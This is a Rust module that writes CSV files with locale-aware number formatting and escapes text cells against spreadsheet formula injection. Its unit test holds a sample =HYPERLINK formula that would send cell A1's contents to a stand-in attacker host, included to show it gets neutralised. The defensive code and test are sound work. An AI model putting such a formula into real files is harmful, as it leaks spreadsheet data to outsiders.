//! CSV cells and rows. Numbers are written plainly (no grouping), with a point, or with a decimal comma
//! and `;` between cells for a German sheet (how a spreadsheet set to German reads a CSV file).
//!
//! Text comes from people (a scenario's or a plan's name, perhaps from a shared link), so every text cell
//! is written as text a spreadsheet will not run: one that starts like a formula (`=`, `+`, `-`, `@`, a
//! tab or a carriage return) gets a leading apostrophe, as OWASP's guidance on CSV injection advises.

/// One cell of text: neutralised if a spreadsheet would read it as a formula, quoted where needed.
pub fn text(cell: &str) -> String {
    let cell = if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell.to_string()
    };
    if cell.contains([',', ';', '"', '\n', '\r']) {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell
    }
}

/// A CSV document being written.
pub struct Sheet {
    decimal_comma: bool,
    out: String,
}

impl Sheet {
    /// A sheet with a decimal point and `,` between cells, or a decimal comma and `;`.
    pub fn new(decimal_comma: bool) -> Sheet {
        Sheet {
            decimal_comma,
            out: String::new(),
        }
    }

    /// One cell of a number (empty for none), to six decimals; never `-0`.
    pub fn number(&self, v: Option<f64>) -> String {
        v.map(|v| {
            let plain = crate::format::css(v, 6);
            if self.decimal_comma {
                plain.replace('.', ",")
            } else {
                plain
            }
        })
        .unwrap_or_default()
    }

    /// One line of cells already written by `text` or `number`.
    pub fn row(&mut self, cells: &[String]) {
        self.out += &cells.join(if self.decimal_comma { ";" } else { "," });
        self.out += "\r\n";
    }

    /// A line of text cells.
    pub fn texts(&mut self, cells: &[&str]) {
        let cells: Vec<String> = cells.iter().map(|c| text(c)).collect();
        self.row(&cells);
    }

    pub fn blank(&mut self) {
        self.out += "\r\n";
    }

    pub fn finish(self) -> String {
        self.out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_a_spreadsheet_would_run_is_written_as_text() {
        assert_eq!(
            text("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
        );
        for start in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert!(
                text(start).trim_start_matches('"').starts_with('\''),
                "{start:?}"
            );
        }
        assert_eq!(text("Growth plan"), "Growth plan");
        assert_eq!(text("a, b"), "\"a, b\"");
        assert_eq!(text("a; b"), "\"a; b\"");
    }

    #[test]
    fn numbers_follow_the_sheets_language() {
        let mut en = Sheet::new(false);
        assert_eq!(en.number(Some(-0.0)), "0");
        assert_eq!(en.number(Some(5282.5)), "5282.5");
        en.row(&[text("a"), en.number(Some(1.25))]);
        assert_eq!(en.finish(), "a,1.25\r\n");
        let mut de = Sheet::new(true);
        assert_eq!(de.number(Some(5282.5)), "5282,5");
        de.texts(&["Tarif", "Growth"]);
        assert_eq!(de.finish(), "Tarif;Growth\r\n");
    }
}
